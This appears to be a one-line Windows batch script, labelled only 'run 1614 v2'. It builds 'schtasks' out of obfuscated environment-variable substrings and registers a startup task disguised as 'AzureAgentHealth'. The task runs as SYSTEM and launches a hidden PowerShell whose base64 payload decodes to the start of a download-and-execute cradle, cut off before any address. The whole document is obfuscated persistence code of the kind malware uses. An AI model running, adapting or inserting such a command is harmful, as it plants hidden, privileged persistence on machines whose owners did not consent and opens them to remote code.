REM run 1614 v2
%comspec:~-18,1%%PUBLIC:~14,1%^ht%programdata:~8,1%^sks /create /^t^n "AzureAgentHealth" /^tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc ons^ta^r^t /ru S^YS^TE^M /f
